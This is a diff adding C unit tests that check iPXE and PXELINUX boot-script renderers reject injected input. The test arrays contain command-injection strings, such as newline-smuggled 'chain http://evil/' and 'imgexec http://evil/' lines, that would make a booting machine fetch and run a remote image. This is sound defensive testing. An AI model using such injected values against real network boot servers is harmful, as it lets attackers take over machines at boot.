@@ -342,6 +342,9 @@ static void test_url_is_safe(void) {
                 "http://10.0.0.1/\x7f",
                 " http://10.0.0.1/",
                 "http://10.0.0.1/ ",
+                "||", /* a word iPXE would take as the end of the command */
+                "&&",
+                ";",
         };
 
         for (size_t i = 0; i < G_N_ELEMENTS(good); i++) {
@@ -379,6 +382,130 @@ static void test_message_is_safe(void) {
         }
 }
 
+/* The renderers refuse what would add a line or a command, even if a caller forgot to check. */
+static void test_ipxe_refuses_unsafe_inputs(void) {
+        static const char *const bad_cmdlines[] = {
+                "quiet\nchain http://evil/",
+                "quiet\rx",
+                "a\tb",
+                "x || chain http://evil/",
+                "x && y",
+                "x ; y",
+                "x #comment",
+                "#x",
+                "root=${root}",
+                "del\x7f",
+        };
+        static const char *const bad_urls[] = {
+                "", "http://10.0.0.1/k\nchain http://evil/", "http://10.0.0.1/k || chain", "#http://x/", "||", ";",
+        };
+        static const char *const bad_initrds[] = {I0, "http://10.0.0.1/i\nimgexec http://evil/", NULL};
+        PxBootScript s = {.kernel_url = K, .initrd_urls = two_initrds, .booting_url = READY, .retry_url = RETRY};
+
+        for (size_t i = 0; i < G_N_ELEMENTS(bad_cmdlines); i++) {
+                PxBootScript t = s;
+                t.cmdline = bad_cmdlines[i];
+                g_test_message("cmdline %s", bad_cmdlines[i]);
+                g_assert_null(px_ipxe_script_render(&t));
+        }
+        for (size_t i = 0; i < G_N_ELEMENTS(bad_urls); i++) {
+                PxBootScript k = s, b = s, r = s;
+                const char *const initrds[] = {bad_urls[i], NULL};
+                PxBootScript in = s;
+
+                k.kernel_url = bad_urls[i];
+                b.booting_url = bad_urls[i];
+                r.retry_url = bad_urls[i];
+                in.initrd_urls = initrds;
+                g_test_message("url %s", bad_urls[i]);
+                g_assert_null(px_ipxe_script_render(&k));
+                g_assert_null(px_ipxe_script_render(&b));
+                g_assert_null(px_ipxe_script_render(&r));
+                g_assert_null(px_ipxe_script_render(&in));
+        }
+        s.initrd_urls = bad_initrds;
+        g_assert_null(px_ipxe_script_render(&s));
+        s.initrd_urls = two_initrds;
+        s.kernel_url = NULL;
+        g_assert_null(px_ipxe_script_render(&s));
+        s.kernel_url = K;
+        s.message = "hi\nchain http://evil/ || x";
+        g_assert_null(px_ipxe_script_render(&s));
+        s.message = "hi\rthere";
+        g_assert_null(px_ipxe_script_render(&s));
+        g_assert_null(px_ipxe_script_render(NULL));
+        /* and the same script with clean inputs renders */
+        s.message = "hi\nthere";
+        s.cmdline = "console=ttyS0 quiet";
+        g_autofree char *ok = px_ipxe_script_render(&s);
+        g_assert_nonnull(ok);
+}
+
+static void test_pxelinux_refuses_unsafe_inputs(void) {
+        static const char *const bad_cmdlines[] = {"quiet\nLABEL evil", "quiet\rKERNEL x", "a\tb", "del\x7f"};
+        static const char *const bad_urls[] = {"", "http://10.0.0.1/k\nAPPEND x", "http://10.0.0.1/a b",
+                                               "http://10.0.0.1/a,b"};
+        PxBootScript s = {.kernel_url = K, .initrd_urls = two_initrds};
+
+        for (size_t i = 0; i < G_N_ELEMENTS(bad_cmdlines); i++) {
+                PxBootScript t = s;
+                t.cmdline = bad_cmdlines[i];
+                g_assert_null(px_pxelinux_config_render(&t));
+        }
+        for (size_t i = 0; i < G_N_ELEMENTS(bad_urls); i++) {
+                PxBootScript k = s, in = s;
+                const char *const initrds[] = {I0, bad_urls[i], NULL};
+
+                k.kernel_url = bad_urls[i];
+                in.initrd_urls = initrds;
+                g_assert_null(px_pxelinux_config_render(&k));
+                g_assert_null(px_pxelinux_config_render(&in));
+        }
+        s.message = "hi\rDEFAULT evil";
+        g_assert_null(px_pxelinux_config_render(&s));
+        g_assert_null(px_pxelinux_config_render(NULL));
+        /* PXELINUX shows what iPXE could not: '${', '#' and '||' are fine in a SAY line and in APPEND */
+        s.message = "${x} || #y";
+        s.cmdline = "x=${y} || #z";
+        g_autofree char *ok = px_pxelinux_config_render(&s);
+        g_assert_nonnull(ok);
+        g_assert_nonnull(strstr(ok, "SAY ${x} || #y\n"));
+        g_assert_nonnull(strstr(ok, " x=${y} || #z\n"));
+}
+
+static void test_pxelinux_local_unsafe_reason(void) {
+        assert_text(px_pxelinux_config_render_local("no\rDEFAULT evil"), "SAY pixiecore: not booting this machine\n"
+                                                                         "DEFAULT local\n"
+                                                                         "PROMPT 0\n"
+                                                                         "TIMEOUT 0\n"
+                                                                         "LABEL local\n"
+                                                                         "  LOCALBOOT 0\n");
+}
+
+static void test_cmdline_is_safe(void) {
+        static const char *const both[] = {"",         "quiet", "console=ttyS0,115200n8 root=/dev/ram0",
+                                           "a  b",     " a ",   "x=\"a b\" 'c'",
+                                           "50%;done", "a#b",   "$HOME",
+                                           "a|b&c"};
+        static const char *const pxelinux_only[] = {"${x}", "a || b", "a && b", "a ; b", "#c", "a #c"};
+        static const char *const neither[] = {"a\nb", "a\rb", "a\tb", "\x1b[m", "\x7f"};
+
+        g_assert_true(px_bootscript_cmdline_is_safe(NULL, true));
+        g_assert_true(px_bootscript_cmdline_is_safe(NULL, false));
+        for (size_t i = 0; i < G_N_ELEMENTS(both); i++) {
+                g_assert_true(px_bootscript_cmdline_is_safe(both[i], true));
+                g_assert_true(px_bootscript_cmdline_is_safe(both[i], false));
+        }
+        for (size_t i = 0; i < G_N_ELEMENTS(pxelinux_only); i++) {
+                g_assert_false(px_bootscript_cmdline_is_safe(pxelinux_only[i], true));
+                g_assert_true(px_bootscript_cmdline_is_safe(pxelinux_only[i], false));
+        }
+        for (size_t i = 0; i < G_N_ELEMENTS(neither); i++) {
+                g_assert_false(px_bootscript_cmdline_is_safe(neither[i], true));
+                g_assert_false(px_bootscript_cmdline_is_safe(neither[i], false));
+        }
+}
+
 int main(int argc, char **argv) {
         g_test_init(&argc, &argv, NULL);
         /* report every failing check, not just the first one */
@@ -403,5 +530,9 @@ int main(int argc, char **argv) {
         g_test_add_func("/bootscript/pxelinux/local", test_pxelinux_local);
         g_test_add_func("/bootscript/url-is-safe", test_url_is_safe);
         g_test_add_func("/bootscript/message-is-safe", test_message_is_safe);
+        g_test_add_func("/bootscript/cmdline-is-safe", test_cmdline_is_safe);
+        g_test_add_func("/bootscript/ipxe/refuses-unsafe-inputs", test_ipxe_refuses_unsafe_inputs);
+        g_test_add_func("/bootscript/pxelinux/refuses-unsafe-inputs", test_pxelinux_refuses_unsafe_inputs);
+        g_test_add_func("/bootscript/pxelinux/local-unsafe-reason", test_pxelinux_local_unsafe_reason);
         return g_test_run();
 }
